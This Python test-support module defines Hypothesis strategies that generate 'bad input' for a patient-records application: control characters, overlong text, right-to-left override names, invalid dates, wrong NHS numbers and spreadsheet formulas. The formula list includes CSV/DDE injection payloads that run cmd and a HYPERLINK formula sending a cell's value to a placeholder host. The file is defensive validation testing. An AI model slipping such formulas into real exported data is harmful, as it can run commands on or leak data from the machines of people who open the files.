"""Hypothesis strategies for the values a careless, hurried or hostile user types: the "bad input" of issue 7.

Each nasty kind has a strategy of its own, so a test can say which it feeds; `nasty_text` mixes them, with
ordinary values among them, for fields that take free text.
"""

from __future__ import annotations

import unicodedata
from datetime import date, timedelta

from hypothesis import strategies as st

from pathways.identity import DIRECTION_CONTROLS

TODAY = date(2026, 11, 29)  # the tests' clock (tests/conftest.py)
LONG = 10_000

# Control characters: NUL first (PostgreSQL refuses it in text), then the rest of C0 and DEL.
CONTROL = [chr(c) for c in range(0x20) if chr(c) not in "\t\n\r"] + ["\x7f"]
RTL_SAMPLES = [
    "\u0645\u062d\u0645\u062f \u0639\u0628\u062f \u0627\u0644\u0644\u0647",  # Arabic: Muhammad Abdullah
    "\u05d3\u05d5\u05d3 \u05db\u05d4\u05df",  # Hebrew: David Cohen
    "\u202eevil.exe\u202c",  # right-to-left override
    "Smith \u202etxt.exe",
    "\u200f\u0633\u0627\u0631\u0629\u200e",  # RLM ... LRM marks around Arabic: Sara
]
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Click")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1)",
    "=cmd|'/C notepad'!'A1'",
    "\t=1+1",
]
INVALID_DATE_TEXTS = [
    "2026-02-31",
    "2026-02-29",  # not a leap year
    "2025-02-29",
    "31/02/2026",
    "2026-13-01",
    "2026-00-10",
    "2026-04-31",
    "29 February 2026",
    "2026-11-29T25:00",
    "2026-11-29T12:61",
    "",
    "0000-01-01",
]
# NHS numbers: 943 476 5919 is the NHS's own valid example; these have a wrong check digit or are not numbers.
VALID_NHS = "9434765919"
WRONG_NHS = ["9434765918", "9434765910", "1234567890", "943476591", "94347659190", "943476591X", "0000000001"]


def control_text() -> st.SearchStrategy[str]:
    """Ordinary words with one or more control characters (NUL among them) somewhere inside."""
    return st.builds(
        lambda left, bad, right: f"{left}{bad}{right}",
        st.sampled_from(["Smith", "Basingstoke", "note", ""]),
        st.lists(st.sampled_from(CONTROL), min_size=1, max_size=3).map("".join),
        st.sampled_from(["Jones", "custody", " x", ""]),
    )


def long_text() -> st.SearchStrategy[str]:
    """A string of 10,000 characters (a short piece of letters or right-to-left text, repeated), or one just over."""
    piece = st.one_of(
        st.text(st.characters(min_codepoint=0x41, max_codepoint=0x7A), min_size=1, max_size=12), rtl_text()
    )
    return st.builds(lambda p, n: (p * (n // len(p) + 1))[:n], piece, st.sampled_from([LONG, LONG + 1, 201]))


def rtl_text() -> st.SearchStrategy[str]:
    return st.sampled_from(RTL_SAMPLES)


def formula_text() -> st.SearchStrategy[str]:
    return st.sampled_from(FORMULAS)


def invalid_date_text() -> st.SearchStrategy[str]:
    return st.sampled_from(INVALID_DATE_TEXTS)


def future_date() -> st.SearchStrategy[date]:
    return st.integers(min_value=1, max_value=3650).map(lambda days: TODAY + timedelta(days=days))


def wrong_nhs_number() -> st.SearchStrategy[str]:
    return st.sampled_from(WRONG_NHS)


def nasty_text() -> st.SearchStrategy[str]:
    """Any nasty free text, with a few ordinary values mixed in."""
    return st.one_of(
        control_text(),
        long_text(),
        rtl_text(),
        formula_text(),
        st.sampled_from(["Hughes", "O'Brien", "Siân", "  "]),
    )


def is_refusable(value: str) -> bool:
    """True when no text field should ever store `value`: control characters, or longer than any field allows."""
    return any(ch in value for ch in CONTROL) or len(value) > LONG


def is_refused_name(name: str) -> bool:
    """True when a surname or forenames must be refused though its characters might do elsewhere: it has no letter
    at all ("?", "=1+1"), or characters that change the direction of text (pathways.identity.check_name)."""
    return not any(unicodedata.category(ch).startswith("L") for ch in name) or any(
        ch in DIRECTION_CONTROLS for ch in name
    )
